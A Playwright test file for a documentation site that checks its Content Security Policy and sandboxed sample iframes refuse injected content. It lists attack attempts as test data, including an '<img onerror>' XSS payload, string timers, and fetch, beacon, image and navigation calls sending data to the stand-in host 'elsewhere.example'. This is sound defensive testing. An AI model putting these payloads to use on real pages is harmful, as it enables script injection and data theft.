import fs from 'node:fs';
import {type Page, expect} from '@playwright/test';
import {cold as plain, hydrated, test} from './hydratedPage';

// All tests on live pages fail when the policy refuses anything. Here is what it must refuse, and what may pass it.

/** What an attacker who can change a page would try, by the directive that must stop it. `add` puts an element in. */
const attempts: [directive: string, code: string][] = [
  ['script-src-elem', `add('script', {textContent: '0'})`],
  ['script-src-elem', `add('script', {src: 'https://elsewhere.example/a.js'})`],
  ['script-src-attr', `document.body.setAttribute('onclick', '0'); document.body.click()`],
  ['script-src-attr', `document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=alert(1)>')`],
  ['script-src', `setTimeout('alert(1)', 0)`],
  ['img-src', `new Image().src = 'https://elsewhere.example/a.png'`],
  ['connect-src', `void fetch('https://elsewhere.example/')`],
  ['connect-src', `navigator.sendBeacon('https://elsewhere.example/', 'x')`],
  ['frame-src', `add('iframe', {src: 'https://elsewhere.example/'})`],
  ['form-action', `add('form', {action: 'https://elsewhere.example/'}).submit()`],
  ['base-uri', `add('base', {href: 'https://elsewhere.example/'})`],
  ['style-src-attr', `document.body.setAttribute('style', 'color: red')`],
  ['style-src-elem', `add('style', {textContent: '*{}'})`],
];

plain('the policy refuses what the site does not do', async ({page}) => {
  await page.goto('/docs/billing');
  await hydrated(page);
  const refused: [directive: string, code: string][] = [];
  for (const [, code] of attempts) {
    const directive = await page.evaluate(
      (run) =>
        new Promise<string>((resolve) => {
          const tell = ({effectiveDirective}: SecurityPolicyViolationEvent) => resolve(effectiveDirective);
          document.addEventListener('securitypolicyviolation', tell, {once: true});
          run();
        }),
      // The code goes through the tool that drives the browser, which the policy does not hold.
      await page.evaluateHandle<() => void>(`() => {
        const add = (name, more) => document.body.appendChild(Object.assign(document.createElement(name), more));
        try { ${code} } catch {}
      }`),
    );
    refused.push([directive, code]);
  }
  expect(refused).toEqual(attempts);
});

plain('a live sample reaches nothing outside its frame, and can’t lead the frame elsewhere', async ({page}) => {
  const sent: string[] = [];
  await page.route(/elsewhere\.example/, (route) => {
    sent.push(route.request().url());
    return route.abort();
  });
  await page.goto('/docs/blank');
  await hydrated(page);
  const sample = page.locator('[data-player-stage] iframe').first().contentFrame().locator('iframe');
  await expect(sample.contentFrame().locator('html')).toHaveAttribute('style', /color-scheme/);
  const frame = await (await sample.elementHandle())?.contentFrame();
  const reached = await frame?.evaluate(async () => {
    const attempt = (work: () => unknown) =>
      Promise.resolve()
        .then(work)
        .then(
          () => 'reached',
          () => 'refused',
        );
    return [
      await attempt(() => fetch('https://elsewhere.example/')),
      await attempt(() => parent.document.title),
      await attempt(() => localStorage.length),
    ];
  });
  expect(reached).toEqual(['refused', 'refused', 'refused']);
  await frame?.evaluate(() => {
    new Image().src = 'https://elsewhere.example/a.png';
    location.href = 'https://elsewhere.example/?leak';
  });
  // The refused way shows an error in the frame; nothing was asked.
  await expect.poll(() => page.frames().some((each) => each.url().startsWith('chrome-error:'))).toBe(true);
  expect(sent).toEqual([]);
});

/** Serves the page as a host does that redirects nothing and sends no headers. */
async function withoutRedirects(page: Page, path: string, file: string): Promise<void> {
  const body = fs.readFileSync(`build/${file}`);
  await page.route(
    (url) => url.pathname === path,
    (route) => route.fulfill({headers: {'Content-Type': 'text/html; charset=utf-8'}, body}),
  );
}

test('on a host that redirects nothing, a page cleans its own address', async ({page}) => {
  await withoutRedirects(page, '/docs/billing.html', 'docs/billing.html');
  await page.goto('/docs');
  const before = await page.evaluate(() => history.length);
  const documents: string[] = [];
  page.on('request', (request) => {
    if (request.isNavigationRequest() && request.frame() === page.mainFrame()) {
      documents.push(new URL(request.url()).pathname);
    }
  });
  await page.goto('/docs/billing.html?x=1#y');
  await expect(page).toHaveURL(/\/docs\/billing\?x=1#y$/);
  await expect(page.locator('.menu__link--active[aria-current="page"]')).toBeVisible();
  expect(await page.evaluate(() => history.length)).toBe(before + 1);
  expect(documents).toEqual(['/docs/billing.html']);
  await withoutRedirects(page, '/index.html', 'index.html');
  await page.goto('/index.html');
  await expect(page).toHaveURL(/\/$/);
  await expect(page.getByRole('heading', {level: 1})).toBeVisible();
});

test('the document of live samples runs nothing when it is not in a sandbox', async ({page}) => {
  await withoutRedirects(page, '/sample-frame.html', 'sample-frame.html');
  await page.goto('/docs/billing');
  const isRun = await page.evaluate(async () => {
    const frame = document.createElement('iframe');
    frame.src = '/sample-frame.html';
    const loaded = new Promise((resolve) => frame.addEventListener('load', resolve, {once: true}));
    document.body.append(frame);
    await loaded;
    const heard = new Promise((resolve) => frame.contentWindow?.addEventListener('message', resolve, {once: true}));
    frame.contentWindow?.postMessage({sample: '<p>run</p>'}, '*');
    await heard;
    return frame.contentDocument?.querySelector('iframe') !== null;
  });
  expect(isRun).toBe(false);
});
